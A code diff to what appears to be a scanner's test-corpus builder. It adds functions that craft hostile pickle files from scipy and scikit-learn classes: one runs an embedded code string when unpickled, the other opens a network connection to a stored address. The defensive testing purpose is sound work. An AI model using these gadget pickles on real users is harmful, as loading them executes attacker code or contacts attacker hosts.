@@ -735,9 +735,52 @@ def gadget_pickles(p: Payload) -> list[PickleSample]:
     ]
 
 
+# The three parsers scipy's rv_generic.__setstate__ expects its exec'd template to define.
+SCIPY_PARSERS = (
+    "def _parse_args(self, loc=0, scale=1):\n    return (), loc, scale\n"
+    "def _parse_args_rvs(self, loc=0, scale=1, size=None):\n    return (), loc, scale, size\n"
+    "def _parse_args_stats(self, loc=0, scale=1, moments='mv'):\n    return (), loc, scale, moments\n"
+)
+
+
+def scipy_distribution_pickle(code: str) -> bytes:
+    """A scipy.stats normal distribution whose pickled `_parse_arg_template` starts with `code`: SciPy execs
+    that template when it unpickles any distribution (rv_generic.__setstate__)."""
+    state = {"_parse_arg_template": code + "\n" + SCIPY_PARSERS}
+    body = glob("scipy.stats._continuous_distns", "norm_gen") + const(()) + pickle.NEWOBJ + const(state) + pickle.BUILD
+    return stream(body, 3)
+
+
+def scoring_monitor_pickle(host: str, port: int) -> bytes:
+    """scikit-learn's ScoringMonitor whose pickled listener address is `host:port`: unpickling it connects there
+    (multiprocessing Client in ScoringMonitor.__setstate__), then opens a listener of its own."""
+    handle = call(glob("sklearn.callback._transport", "ListenerHandle"), ((host, port), b"k" * 32))
+    state = pickle.EMPTY_DICT + pickle.MARK + const("_listener_handle") + handle + const("_log") + pickle.EMPTY_LIST
+    body = glob("sklearn.callback._scoring_monitor", "ScoringMonitor") + const(()) + pickle.NEWOBJ + state
+    return stream(body + pickle.SETITEMS + pickle.BUILD, 3)
+
+
+def library_gadget_pickles(p: Payload) -> list[PickleSample]:
+    """Classes of well-known libraries whose unpickling does something: a code string run, a connection made."""
+    return [
+        (
+            "gadget-scipy-distribution-template.pkl",
+            scipy_distribution_pickle(p.code),
+            "library gadget: a scipy.stats distribution whose pickled argument-parser template SciPy execs on load",
+            ["WS-PKL-013"],
+        ),
+        (
+            "gadget-sklearn-scoring-monitor.pkl",
+            scoring_monitor_pickle("127.0.0.1", 9),
+            "library gadget: scikit-learn's ScoringMonitor connects to the address in its state on load",
+            ["WS-PKL-013", "WS-PKL-001"],
+        ),
+    ]
+
+
 def build_hostile(corpus: Corpus, p: Payload) -> None:
     """Every hostile sample."""
-    for name, data, technique, rules in technique_pickles(p) + gadget_pickles(p):
+    for name, data, technique, rules in technique_pickles(p) + gadget_pickles(p) + library_gadget_pickles(p):
         corpus.add(f"hostile/{name}", data, technique, rules=expect(*rules))
     payload = target_call(p)
     main_rules = ["WS-PKL-001"] if p.target[0] in ("os", "posix") else ["WS-PKL-003"]
